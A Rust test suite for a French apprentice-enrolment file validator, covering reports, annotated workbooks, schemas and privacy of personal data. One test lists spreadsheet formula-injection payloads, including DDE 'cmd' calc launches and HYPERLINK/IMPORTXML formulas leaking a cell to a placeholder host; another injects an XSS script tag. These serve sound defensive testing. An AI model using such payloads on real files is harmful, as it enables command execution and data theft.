//! The answer to each rejected file as a person reads it, and the promises of the workbooks.
//!
//! `BLESS=1 cargo test -p validate` writes the expected files anew.

use std::fs;
use std::path::{Path, PathBuf};

use domain::validate::{Column, How, Privacy, Report, Verdict, preview, what_changed};
use domain::vocabulary::organisation::Listed;
use domain::vocabulary::{KeySecret, Organisation, Reference};
use rust_xlsxwriter::Workbook;
use sha2::Digest as _;

use super::*;
use crate::check::check;

fn tests_folder() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests")
}

/// Compares with the file of that name, or writes it when asked to.
fn expect(name: &str, text: &str) {
    let path = tests_folder().join("expected").join(name);
    if std::env::var_os("BLESS").is_some() {
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, text).unwrap();
    }
    let expected = fs::read_to_string(&path).unwrap_or_default();
    assert!(text == expected, "{name} is not what is expected; it is now:\n{text}");
}

/// The circumstances of every test: one sender, two listed organisations.
struct World {
    secret: KeySecret,
    sender: Organisation,
    reference: Reference,
}

impl World {
    fn new() -> Self {
        let sender: Organisation = "0022189U-39504180900041".parse().unwrap();
        let other: Organisation = "0031133R-30540504500991".parse().unwrap();
        let listed = [sender, other].map(|organisation| Listed {
            organisation,
            name: "CFA des métiers & des arts".to_owned(),
            nature: String::new(),
            department: String::new(),
            commune: String::new(),
            commune_code: None,
        });
        Self { secret: KeySecret::new(&[7; 32]), sender, reference: Reference::new(listed) }
    }

    fn circumstances<'a>(&'a self, file_name: &'a str) -> Circumstances<'a> {
        Circumstances {
            file_name,
            sender: Some(self.sender),
            school_year: Some("2026-2027".parse().unwrap()),
            today: "2026-11-22".parse().unwrap(),
            secret: &self.secret,
            reference: Some(&self.reference),
        }
    }

    fn judge(&self, name: &str, bytes: &[u8]) -> Report {
        check(bytes, &self.circumstances(name), &mut |_, _| {})
    }

    fn workbooks(&self, name: &str, bytes: &[u8]) -> Option<workbook::Workbooks> {
        workbook::workbooks(bytes, &self.circumstances(name)).unwrap()
    }

    fn page(&self, name: &str, bytes: &[u8]) -> String {
        page_of(&self.judge(name, bytes))
    }

    /// What its sender reads of an accepted file: what the public will read is in it.
    fn page_with_preview(&self, name: &str, bytes: &[u8]) -> String {
        let circumstances = self.circumstances(name);
        let mut records = Vec::new();
        let mut report =
            check(bytes, &circumstances, &mut |record, _| records.push(record.clone()));
        report.preview = Some(preview(&records, Some(&self.reference), circumstances.today));
        page_of(&report)
    }
}

fn page_of(report: &Report) -> String {
    let context = html::AnswerContext {
        today: "2026-11-22".parse().unwrap(),
        changes: None,
        annotated: Some(ANNOTATED),
        set_aside: Some(SET_ASIDE),
        deposit: Some("/deposer/"),
    };
    html::html(report, &context)
}

fn rejected() -> Vec<(String, Vec<u8>)> {
    let folder = fs::read_dir(tests_folder().join("fixtures/rejected")).unwrap();
    let mut files: Vec<_> = folder
        .map(|entry| {
            let path = entry.unwrap().path();
            (path.file_name().unwrap().to_str().unwrap().to_owned(), fs::read(&path).unwrap())
        })
        .collect();
    files.sort();
    files
}

fn accepted() -> Vec<u8> {
    fs::read(tests_folder().join("fixtures/accepted/two_learners.csv")).unwrap()
}

/// The text of a page, without its head: one line for each block.
fn text_of(page: &str) -> String {
    let (_, body) = page.split_once("<main>").unwrap();
    let mut text = String::new();
    for piece in body.split('<') {
        let (tag, words) = piece.split_once('>').unwrap_or(("", piece));
        if tag.starts_with("td") || tag.starts_with("dd") {
            text.push_str(" | ");
        }
        text.push_str(words);
    }
    let unescaped = text.replace("&quot;", "\"").replace("&#39;", "'").replace("&amp;", "&");
    let lines = unescaped.lines().map(str::trim).filter(|line| !line.is_empty());
    lines.flat_map(|line| [line, "\n"]).collect()
}

#[test]
fn each_rejected_file_has_its_answer() {
    let world = World::new();
    for (name, bytes) in rejected() {
        let page = text_of(&world.page(&name, &bytes));
        // The list of columns is long and always the same.
        let told = page.split_once("\nA nom_apprenant\n").map_or(&*page, |(told, _)| told);
        expect(
            &format!("reports/{}", name.replace(".csv", ".txt")),
            &format!("{}\n", told.trim_end()),
        );
    }
}

#[test]
fn a_page_is_whole_and_needs_nothing_else() {
    let world = World::new();
    let page = world.page_with_preview("two_learners.csv", &accepted());
    expect("reports/two_learners.html", &page);
    assert_eq!(page.matches("<h1>").count(), 1);
    for forbidden in ["<script", "http://", "https://", "url(", "<img", "<link"] {
        assert!(!page.contains(forbidden), "{forbidden}");
    }
}

/// A title above, headers under other names, and more causes than come first.
#[test]
fn a_long_answer_begins_with_what_matters() {
    let world = World::new();
    let list = String::from_utf8(accepted()).unwrap();
    let mut lines = list.trim_start_matches('\u{feff}').lines();
    let header: Vec<&str> = lines.next().unwrap().split(';').collect();
    let model: Vec<&str> = lines.next().unwrap().split(';').collect();
    let place = |name: &str| header.iter().position(|header| *header == name).unwrap();
    let mut list = "Effectifs de l’année\n".to_owned();
    let named = header.join(";").replace("nom_apprenant;prenom", "nom_aprenant;prenom");
    list += &named.replace("sexe_apprenant", "Sexe de l’apprenant");
    list += ";Commentaire interne\n";
    let wrong = [
        ("sexe_apprenant", "X", 13),
        ("etablissement_formateur_siret", "3950418090004", 3),
        ("date_fin_formation", "31/02/2028", 2),
        ("contrat_date_rupture", "bientôt", 2),
        ("code_postal_apprenant", "2 100", 1),
        ("tel_apprenant", "", 24),
    ];
    let faults = wrong.iter().flat_map(|(name, value, count)| vec![(place(name), value); *count]);
    for (number, (wrong, value)) in faults.enumerate() {
        let mut row: Vec<String> = model.iter().map(ToString::to_string).collect();
        // One letter is not enough to tell two persons apart.
        let letters = ["a", "e", "i", "o", "u", "y", "ou"];
        row[place("prenom_apprenant")] =
            format!("B{}n{}n", letters[number % 7].repeat(3), letters[number / 7].repeat(3));
        (*value).clone_into(&mut row[wrong]);
        list += &(row.join(";") + "\n");
    }
    let page = text_of(&world.page("liste.csv", list.as_bytes()));
    let (told, _) = page.split_once("\nB prenom_apprenant\n").unwrap();
    expect("reports/many_causes.txt", &format!("{told}\n"));
}

#[test]
fn what_comes_from_the_file_is_text() {
    let world = World::new();
    let header = "<script>alert(1)</script>\"'&\u{202e}";
    let list = String::from_utf8(accepted()).unwrap();
    let list = list.lines().flat_map(|line| [line, ";", header, "\n"]).collect::<String>();
    let page = world.page("<b>\".csv", list.as_bytes());
    assert!(!page.contains("<script") && !page.contains("<b>\"") && !page.contains('\u{202e}'));
    assert!(
        page.contains(
            "« &lt;script&gt;alert(1)&lt;/script&gt;&quot;&#39;&amp; »"
                .replace("« ", "«\u{a0}")
                .replace(" »", "\u{a0}»")
                .as_str()
        )
    );
}

#[test]
fn the_annotated_sheet_is_judged_as_the_file_was() {
    let world = World::new();
    let mut with_notes = 0;
    for (name, bytes) in rejected() {
        // What must not be sent does not come back, and so is not found again.
        if name == "nir_is_in_no_cell.csv" {
            continue;
        }
        let Some(workbooks) = world.workbooks(&name, &bytes) else { continue };
        let (before, after) =
            (world.judge(&name, &bytes), world.judge(ANNOTATED, &workbooks.annotated));
        assert_eq!(after.verdict, before.verdict, "{name}");
        assert_eq!(after.rows, before.rows, "{name}");
        assert_eq!(after.summary, before.summary, "{name}");
        let added = [workbook::PROBLEM, workbook::FIX].map(str::to_owned);
        assert!(after.columns.ignored.ends_with(&added), "{name}");
        assert_eq!(workbooks.set_aside.is_some(), before.rows.set_aside > 0, "{name}");
        if let Some(set_aside) = workbooks.set_aside {
            let rows = world.judge(SET_ASIDE, &set_aside).rows;
            assert_eq!((rows.read, rows.set_aside), (before.rows.set_aside, rows.read), "{name}");
        }
        with_notes += 1;
    }
    assert!(with_notes > 40, "{with_notes} workbooks");
}

#[test]
fn the_same_file_gives_the_same_bytes() {
    let world = World::new();
    for (name, bytes) in rejected() {
        let circumstances = world.circumstances(&name);
        let answer =
            || files(&world.judge(&name, &bytes), &bytes, &circumstances, None, true).unwrap();
        let first = answer();
        assert_eq!(first, answer(), "{name}");
        assert_eq!(first[0].name, PAGE);
    }
    assert_eq!(template::template().unwrap(), template::template().unwrap());
}

/// Every part of a workbook, as text.
fn parts(workbook: &[u8]) -> String {
    use std::io::Read as _;
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(workbook)).unwrap();
    let mut text = String::new();
    for place in 0..archive.len() {
        archive.by_index(place).unwrap().read_to_string(&mut text).unwrap();
    }
    text
}

#[test]
fn no_formula_leaves_with_us() {
    let world = World::new();
    let list = String::from_utf8(accepted()).unwrap();
    let mut lines = list.lines();
    let header = lines.next().unwrap();
    let row = lines.next().unwrap();
    let (_, after_name) = row.split_once(';').unwrap();
    for formula in [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!D2",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"\"https://exemple.fr?x=\"\"&A1)",
        "\t=1+1",
        "＝1+1",
        "\r=1+1",
        "=IMPORTXML(CONCAT(\"\"https://exemple.fr/\"\",A1))",
    ] {
        // In a name, in a header that is ignored, in a cell under it.
        let list =
            format!("{header};\"{formula}\"\n\"{formula}\";{after_name};\"{formula}\"\n{row};");
        let workbooks = world.workbooks("liste.csv", list.as_bytes()).unwrap();
        for workbook in [Some(workbooks.annotated), workbooks.set_aside].into_iter().flatten() {
            let xml = parts(&workbook);
            assert!(!xml.contains("<f>") && !xml.contains("<f "), "{formula}");
            let begins = formula.trim_start().replace("\"\"", "\"");
            let begins = begins.replace('&', "&amp;");
            assert!(!xml.contains(&format!(">{begins}<")), "{formula}");
        }
    }
}

#[test]
fn a_neutralised_cell_is_read_as_it_was() {
    let world = World::new();
    let list = String::from_utf8(accepted()).unwrap();
    let mut rows: Vec<Vec<String>> =
        list.lines().map(|line| line.split(';').map(str::to_owned).collect()).collect();
    let place = rows[0].iter().position(|header| header == "tel_apprenant").unwrap();
    rows[1][place] = "+33612345678".to_owned();
    let sexe = rows[0].iter().position(|header| header == "sexe_apprenant").unwrap();
    rows[2][sexe] = "X".to_owned();
    let list: String = rows.iter().map(|row| row.join(";") + "\n").collect();
    let workbooks = world.workbooks("liste.csv", list.as_bytes()).unwrap();
    assert!(
        parts(&workbooks.annotated).contains("&apos;+33612345678")
            || parts(&workbooks.annotated).contains("'+33612345678")
    );
    let report = world.judge(ANNOTATED, &workbooks.annotated);
    assert_eq!(report.summary, world.judge("liste.csv", list.as_bytes()).summary);
}

#[test]
fn the_social_security_number_does_not_come_back() {
    let world = World::new();
    let list = String::from_utf8(accepted()).unwrap();
    let mut lines = list.lines();
    let mut with_nir = format!("{};NIR;N° de sécurité sociale\n", lines.next().unwrap());
    for line in lines {
        with_nir.extend([line, ";206037512345678;206037512345678\n"]);
    }
    let workbooks = world.workbooks("liste.csv", with_nir.as_bytes()).unwrap();
    let xml = parts(&workbooks.annotated);
    assert!(!xml.contains("206037512345678"));
    assert!(xml.contains("Colonne retirée"));
    let report = world.judge(ANNOTATED, &workbooks.annotated);
    assert!(report.summary.iter().all(|group| group.rule != "nir_is_absent"));
}

/// In a column of ours, in one that is ignored, above the header.
#[test]
fn a_social_security_number_in_any_cell_is_neither_kept_nor_given_back() {
    const NIR: &str = "206037512345679";
    let world = World::new();
    let list = String::from_utf8(accepted()).unwrap();
    let rows: Vec<Vec<&str>> = list.lines().map(|line| line.split(';').collect()).collect();
    for place in 0..=rows[0].len() {
        let mut rows = rows.clone();
        rows[0].push("Commentaire");
        rows[1].push("");
        rows[1][place] = NIR;
        let list: String = rows.iter().map(|row| row.join(";") + "\n").collect();
        let list = format!("{NIR}\n{list}");
        let mut kept = String::new();
        let circumstances = world.circumstances("liste.csv");
        let report = check(list.as_bytes(), &circumstances, &mut |record, identity| {
            kept += &format!("{record:?} {:?}", identity.texts.iter().collect::<Vec<_>>());
        });
        let workbooks = world.workbooks("liste.csv", list.as_bytes()).unwrap();
        let page = world.page("liste.csv", list.as_bytes());
        for text in [&kept, &crate::report::to_json(&report), &page, &parts(&workbooks.annotated)] {
            assert!(!text.contains(NIR), "column {place}");
        }
        let found = report.findings.iter().any(|finding| {
            finding.rule == "nir_is_in_no_cell" && finding.column_index == Some(place as u32)
        });
        assert!(found, "column {place}");
    }
}

/// Titles above, dates of 1904 under a header lower down: lines and days stay what they were.
#[test]
fn a_workbook_comes_back_with_its_lines_and_its_days() {
    let world = World::new();
    let list = String::from_utf8(accepted()).unwrap();
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write_string(0, 0, "Effectifs").unwrap();
    let date = rust_xlsxwriter::Format::new().set_num_format("dd/mm/yyyy");
    for (line, row) in (3..).zip(list.lines()) {
        for (place, cell) in (0..).zip(row.split(';')) {
            match cell.parse::<domain::vocabulary::Day>() {
                Ok(day) => {
                    let serial = day.epoch_days() + 25_569;
                    sheet.write_number_with_format(line, place, serial, &date).unwrap();
                }
                Err(_) => drop(sheet.write_string(line, place, cell).unwrap()),
            }
        }
    }
    sheet.write_string(5, 3, "X").unwrap();
    let bytes = book.save_to_buffer().unwrap();
    let before = world.judge("liste.xlsx", &bytes);
    assert_eq!(before.file.header_line, Some(4));
    let workbooks = world.workbooks("liste.xlsx", &bytes).unwrap();
    let after = world.judge(ANNOTATED, &workbooks.annotated);
    assert_eq!(after.file.header_line, Some(4));
    assert_eq!((after.rows, after.summary), (before.rows, before.summary));
}

/// A canary in each personal column, as a text that no rule can read and as one that it can.
#[test]
fn no_personal_cell_is_quoted() {
    let world = World::new();
    let list = String::from_utf8(accepted()).unwrap();
    let rows: Vec<Vec<&str>> = list.lines().map(|line| line.split(';').collect()).collect();
    let canaries = [
        "Canari",
        "canari@serin.fr",
        "#canari",
        "99/99/1987",
        "0198765439",
        "98765",
        "1,98765E+13",
        "198765439876543",
        "canari\u{a0}jaune 98765",
    ];
    for column in Column::ALL.into_iter().filter(|column| column.privacy() == Privacy::Personal) {
        for canary in canaries {
            let mut rows = rows.clone();
            let place = rows[0].iter().position(|header| *header == column.name()).unwrap();
            rows[2][place] = canary;
            let list: String = rows.iter().map(|row| row.join(";") + "\n").collect();
            let json = crate::report::to_json(&world.judge("liste.csv", list.as_bytes()));
            let sha256 = domain::upload::hex(&sha2::Sha256::digest(list.as_bytes()));
            let page = world.page("liste.csv", list.as_bytes());
            for text in [json, page].map(|text| text.replace(&sha256, "")) {
                assert!(!text.contains(canary), "{column}: {canary}");
            }
        }
    }
}

/// The template with the examples of its own second sheet under its headers.
#[test]
fn a_filled_template_is_accepted() {
    use std::io::{Cursor, Read as _, Write as _};
    let template = template::template().unwrap();
    let mut archive = zip::ZipArchive::new(Cursor::new(template)).unwrap();
    let mut filled = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let mut row = String::new();
    for field in domain::validate::schema::fields() {
        row.extend(["<c t=\"inlineStr\"><is><t>", &*field.example, "</t></is></c>"]);
    }
    for place in 0..archive.len() {
        let mut part = archive.by_index(place).unwrap();
        let name = part.name().unwrap().into_owned();
        let mut content = Vec::new();
        part.read_to_end(&mut content).unwrap();
        if name == "xl/worksheets/sheet1.xml" {
            let sheet = String::from_utf8(content).unwrap();
            let end = format!("<row r=\"2\">{row}</row></sheetData>");
            content = sheet.replacen("</sheetData>", &end, 1).into_bytes();
        }
        filled.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        filled.write_all(&content).unwrap();
    }
    let filled = filled.finish().unwrap().into_inner();
    let report = World::new().judge(template::NAME, &filled);
    assert_eq!(report.verdict, Verdict::Accepted);
    assert_eq!((report.rows.read, report.rows.accepted), (1, 1));
    assert_eq!(report.findings, []);
}

/// The types of errors of the Frictionless framework, version 5.21.
#[test]
fn every_rule_has_an_error_type_of_the_framework() {
    const OF_THE_FRAMEWORK: &str = "blank-header blank-label constraint-error duplicate-label \
        duplicate-row encoding-error extra-label forbidden-value foreign-key missing-label \
        row-constraint source-error table-dimensions type-error";
    for rule in domain::validate::schema::rule_codes() {
        let known = OF_THE_FRAMEWORK.split(' ').any(|known| known == rule.frictionless.as_str());
        assert!(known, "{}", rule.code);
    }
}

#[test]
fn the_template_is_read_as_it_was_meant() {
    let world = World::new();
    let bytes = template::template().unwrap();
    let report = world.judge(template::NAME, &bytes);
    let rules: Vec<&str> = report.summary.iter().map(|group| group.rule).collect();
    assert_eq!(rules, ["file_has_rows"]);
    assert_eq!(report.file.sheet.as_deref(), Some("Modèle"));
    assert_eq!(report.columns.recognised.len(), 64);
    assert!(report.columns.recognised.iter().all(|recognised| recognised.how == How::Exact));
    assert!(report.columns.ignored.is_empty());
    let xml = parts(&bytes);
    assert!(
        xml.contains("<dataValidation ") && xml.contains("\"F,M\"")
            || xml.contains("&quot;F,M&quot;")
    );
}

#[test]
fn the_schemas_are_published_as_expected() {
    the_site_offers("effectifs.tableschema.json", schema::table_schema().as_bytes());
    the_site_offers("effectifs.schema.json", schema::json_schema().as_bytes());
    the_site_offers("exemple-valide.csv", schema::valid_example().as_bytes());
    the_site_offers("exemple-invalide.csv", schema::invalid_example().as_bytes());
}

#[test]
fn the_template_is_published_as_it_is() {
    the_site_offers(template::NAME, &template::template().unwrap());
}

/// What the site offers to download is what the rules say now. `BLESS=1` accepts it.
fn the_site_offers(name: &str, bytes: &[u8]) {
    let path = tests_folder().join("../site/public/modele").join(name);
    if std::env::var_os("BLESS").is_some() {
        fs::write(&path, bytes).unwrap();
    }
    let offered = fs::read(&path).unwrap_or_default();
    assert!(offered == bytes, "{name} is not what the site offers: BLESS=1 accepts it");
}

#[test]
fn the_examples_are_what_they_say() {
    let world = World::new();
    let valid = world.judge("exemple.csv", schema::valid_example().as_bytes());
    assert_eq!((valid.findings, valid.rows.accepted), (vec![], 2));
    let invalid = world.judge("exemple.csv", schema::invalid_example().as_bytes());
    assert_eq!((invalid.verdict, invalid.rows.set_aside), (Verdict::Refused, 3));
    let rules: Vec<&str> = invalid.findings.iter().map(|finding| finding.rule).collect();
    assert_eq!(
        rules,
        ["most_rows_are_kept", "siret_is_well_formed", "date_is_readable", "sex_is_known"]
    );
}

/// What the Table Schema says of each cell, by hand: enough to see that it and the rules agree.
fn breaks(csv: &str) -> Vec<String> {
    let schema: serde_json::Value = serde_json::from_str(&schema::table_schema()).unwrap();
    let fields = schema["fields"].as_array().unwrap();
    let mut lines = csv.trim_start_matches('\u{feff}').lines();
    let headers: Vec<&str> = lines.next().unwrap().split(';').collect();
    let mut broken = Vec::new();
    for (number, line) in (2..).zip(lines) {
        for (header, cell) in headers.iter().zip(line.split(';')) {
            let field = fields.iter().find(|field| field["name"] == *header).unwrap();
            let constraints = &field["constraints"];
            let conforms = if cell.is_empty() {
                constraints["required"] == false
            } else {
                let matches =
                    |pattern: &str| regex_lite::Regex::new(pattern).unwrap().is_match(cell);
                let codes = constraints["enum"].as_array();
                let number = cell.parse::<u64>();
                constraints["pattern"].as_str().is_none_or(matches)
                    && codes.is_none_or(|codes| codes.iter().any(|code| code == cell))
                    && match field["type"].as_str().unwrap() {
                        "date" => cell.parse::<domain::vocabulary::Day>().is_ok(),
                        "integer" => number.is_ok_and(|number| {
                            number >= constraints["minimum"].as_u64().unwrap()
                                && number <= constraints["maximum"].as_u64().unwrap()
                        }),
                        "boolean" => ["OUI", "NON"].contains(&cell),
                        _ => true,
                    }
            };
            if !conforms {
                broken.push(format!("line {number}, {header}"));
            }
        }
    }
    broken
}

#[test]
fn what_is_accepted_conforms_to_the_schema_and_what_is_not_does_not() {
    assert_eq!(breaks(&String::from_utf8(accepted()).unwrap()), [""; 0]);
    assert_eq!(breaks(&schema::valid_example()), [""; 0]);
    assert_eq!(
        breaks(&schema::invalid_example()),
        [
            "line 2, etablissement_formateur_siret",
            "line 3, date_fin_formation",
            "line 4, sexe_apprenant"
        ]
    );
}

#[test]
fn every_code_of_a_report_is_in_the_schema() {
    let world = World::new();
    let codes = domain::validate::schema::rule_codes();
    for (name, bytes) in rejected() {
        for group in world.judge(&name, &bytes).summary {
            assert!(codes.iter().any(|rule| rule.code == group.rule), "{}", group.rule);
        }
    }
}

#[test]
fn the_page_says_what_changed() {
    let world = World::new();
    let bytes = accepted();
    let circumstances = world.circumstances("liste.csv");
    let mut records = Vec::new();
    let report = check(&bytes, &circumstances, &mut |record, _| records.push(record.clone()));
    let changes = what_changed(&records[..1], &records, circumstances.today);
    let files = files(&report, &bytes, &circumstances, Some(&changes), true).unwrap();
    assert_eq!(files.len(), 1, "nothing to correct, no workbook");
    let page = String::from_utf8(files[0].bytes.clone()).unwrap();
    assert!(page.contains("1 apprenant de plus que dans votre dernier envoi."));
}
